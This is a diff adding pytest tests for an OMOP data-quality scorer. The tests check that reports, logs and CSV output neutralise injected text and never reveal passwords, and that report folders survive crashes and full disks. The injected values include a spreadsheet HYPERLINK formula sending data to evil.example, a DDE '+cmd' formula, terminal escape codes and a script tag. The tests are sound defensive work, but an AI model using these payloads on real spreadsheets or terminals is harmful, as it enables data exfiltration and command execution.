@@ -1,0 +1,192 @@
+"""What leaves the warehouse, and what is said on the way: no place, secret or half set."""
+
+import base64
+import csv
+import io
+import random
+import re
+import signal
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+import pytest
+
+from tests.support.command_line import Finished, Site, omop_scorer
+from tests.support.small_disk import fill, small_disk
+
+SECRET = "Zx9/t'p\"4%2"
+#: The same as a run file, JSON, SQL, a URL or a page would write it.
+TRACES = re.compile(r"Zx9|zx9", re.IGNORECASE)
+#: What no line of a log, cell or page may hold.
+HOSTILE = re.compile("[\0-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff]")
+TEXTS = {
+    "cdm_source_name": '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "cdm_version": "@SUM(1)\x1b[2J\x1b[31m\nerror: FAKE",
+    "vocabulary_version": "+cmd|'/c calc'!A0\u202e\u2028\x9b31m\r<script>alert(1)</script>",
+}
+PLACES = {
+    "postgresql": {"application_name": "swanwatch"},
+    "spark": {
+        "scratch": "/mnt/internal-nas/patients",
+        "settings": {
+            "spark.master": "spark://whale.hospital.internal:7077",
+            "spark.hadoop.account.pwd": "hunter2",
+            "spark.hadoop.javax.jdo.option.ConnectionPWD": "hunter3",
+            "spark.datasource.url": "jdbc:x://u:hunter4@h",
+        },
+    },
+}
+
+
+def report(site: Site, folder: Path) -> dict[str, str]:
+    """Return the text of every file of a report, pictures as their SVG."""
+    page = site.folder / "page.html"
+    done = omop_scorer(
+        *("report", "--config", site.run_file(), "--output", page, "--csv", folder),
+    )
+    assert done.returncode == 0, done.stderr
+    text = page.read_text(encoding="utf-8")
+    pictures = re.findall(r"data:image/svg\+xml;base64,([\w+/=]+)", text)
+    files = {path.name: path.read_text(encoding="utf-8") for path in folder.iterdir()}
+    svg = [base64.b64decode(each).decode("utf-8") for each in pictures]
+    return {**files, "page": text, "pictures": "\n".join(svg)}
+
+
+def assert_tame(*finished: Finished) -> None:
+    for text in (part for each in finished for part in (each.stdout, each.stderr)):
+        assert not HOSTILE.search(text), HOSTILE.search(text)
+        assert not re.search("^error: FAKE", text, re.MULTILINE)
+
+
+def test_hostile_texts_of_a_cdm_in_every_output(site: Site) -> None:
+    columns = ", ".join(
+        "{} = '{}'".format(name, text.replace("'", "''")) for name, text in TEXTS.items()
+    )
+    site.change(f"UPDATE cdm_source SET {columns}")
+    config = site.run_file(**PLACES)
+    finished = [
+        omop_scorer("run", "--config", config, "--log-format", "text"),
+        omop_scorer("check", "--config", config),
+        omop_scorer("diff", "previous", "latest", "--config", config),
+        *(omop_scorer(each, "--config", config) for each in ("runs", "status")),
+        omop_scorer("runs", "--config", config, "--format", "csv"),
+        omop_scorer("run", "--config", config, "--dry-run", "--log-format", "json"),
+    ]
+    assert [each.returncode for each in finished] == [0] * len(finished)
+    assert_tame(*finished)
+    assert r"\x1b[2J" in finished[1].stdout
+    (truth,) = site.rows(f"SELECT {', '.join(TEXTS)} FROM latest_run")
+    assert truth == tuple(TEXTS.values())
+    files = report(site, site.folder / "figures")
+    for name, text in files.items():
+        assert not HOSTILE.search(text), name
+        assert not re.search("evil|calc|<script|hunter|internal|whale|swan|cdm\\.duckdb", text), (
+            name
+        )
+        if name.endswith(".csv"):
+            cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+            assert not [c for c in cells if re.match(r"[=+\-@\t\r]", c) and not _is_number(c)], name
+    (stored,) = next(iter(site.rows("SELECT config_json FROM latest_run")))
+    assert "hunter" not in stored
+    assert "whale.hospital.internal" in stored
+
+
+def _is_number(text: str) -> bool:
+    return bool(re.fullmatch(r"-?\d+(\.\d+)?(e-?\d+)?", text))
+
+
+def test_a_secret_is_said_nowhere(site: Site, monkeypatch: pytest.MonkeyPatch) -> None:
+    """The value that a driver reads as a password stands in keys where nobody looks for it."""
+    monkeypatch.setenv("PGPASSWORD", SECRET)
+    keys = {
+        "postgresql": {"application_name": SECRET},
+        "spark": {"settings": {"spark.app.name": f"a {SECRET} b"}},
+    }
+    config = site.run_file(**keys)
+    good = omop_scorer("run", "--config", config, "--log-format", "json")
+    assert good.returncode == 0, good.stderr
+    finished = [good]
+    for log_format in ("text", "json"):
+        failing = site.run_file(**keys, cdm={"tables": {"person": SECRET}})
+        finished.append(omop_scorer("run", "--config", failing, "--log-format", log_format))
+        finished.append(omop_scorer("check", "--config", failing, "--log-format", log_format))
+    finished += [omop_scorer(each, "--config", config) for each in ("runs", "status")]
+    said = "\n".join(each.stdout + each.stderr for each in finished)
+    assert "cdm.tables maps it to ***" in said
+    assert not TRACES.search(said)
+    kept = site.rows("SELECT config_json FROM scoring_run UNION ALL "
+                     "SELECT message FROM scoring_run_status")  # fmt: skip
+    text = "\n".join(str(each) for (each,) in kept)
+    assert "maps it to ***" in text
+    assert "***" in text
+    assert not TRACES.search(text)
+    assert not TRACES.search("\n".join(report(site, site.folder / "figures").values()))
+
+
+def test_a_password_file_is_read_and_never_said(site: Site) -> None:
+    (site.folder / "secret").write_text("open-Sesame-7\n", encoding="utf-8")
+    server = "postgresql://user@127.0.0.1:1/database"
+    keys = {"postgresql": {"application_name": "open-Sesame-7", "retries": 0}}
+    cdm = {"url": server, "password_file": str(site.folder / "secret")}
+    done = omop_scorer("run", "--config", site.run_file(cdm=cdm, **keys))
+    assert done.returncode == 11, done.stderr
+    assert "open-Sesame" not in done.stderr + done.stdout
+
+
+# ---- The folder of the figures ----
+
+WRITER = """
+import sys
+from pathlib import Path
+from omop_scorer.report.whole_folder import whole_folder
+names = [f"{n}.csv" for n in range(12)]
+for n in range(100000):
+    with whole_folder(Path(sys.argv[1]), {name: str(n) for name in names}, frozenset(names)):
+        pass
+"""
+
+
+def test_a_killed_program_leaves_a_whole_set_or_nothing(tmp_path: Path) -> None:
+    folder = tmp_path / "figures"
+    folder.mkdir()
+    (folder / "notes.txt").write_text("mine")
+    seen = set()
+    for seed in range(12):
+        process = subprocess.Popen([sys.executable, "-c", WRITER, folder])
+        while process.poll() is None and not (folder / "0.csv").exists():
+            time.sleep(0.02)
+        time.sleep(random.Random(seed).random() / 20)
+        process.send_signal(signal.SIGKILL)
+        process.wait()
+        if folder.exists():
+            texts = {path.name: path.read_text() for path in folder.glob("*.csv")}
+            assert (len(texts), len({*texts.values()})) == (12, 1), texts
+            assert (folder / "notes.txt").read_text() == "mine"
+            seen |= {*texts.values()}
+    assert len(seen) > 3
+
+
+def test_a_full_disk_leaves_the_older_set(site: Site, tmp_path: Path) -> None:
+    disk = tmp_path / "disk"
+    disk.mkdir()
+    with small_disk(disk, 8) as mounted:
+        if not mounted:
+            pytest.skip("no disk can be mounted here")
+        folder = disk / "figures"
+        config = site.run_file()
+        assert omop_scorer("report", "--config", config, "--csv", folder).returncode == 0
+        before = {path.name: path.read_bytes() for path in folder.iterdir()}
+        (folder / "change.csv").write_text("of an older report")
+        fill(disk / "filler", 40_000)
+        done = omop_scorer("report", "--config", config, "--csv", folder)
+        assert done.returncode == 15
+        assert "No space left" in done.stderr
+        (folder / "change.csv").unlink()
+        assert {path.name: path.read_bytes() for path in folder.iterdir()} == before
+        (disk / "filler").unlink()
+        assert omop_scorer("report", "--config", config, "--csv", folder).returncode == 0
+        assert {path.name for path in folder.iterdir()} == before.keys()
+        assert [path.name for path in disk.iterdir()] == ["figures"]
+        assert omop_scorer("report", "--config", config, "--csv", disk).returncode == 15
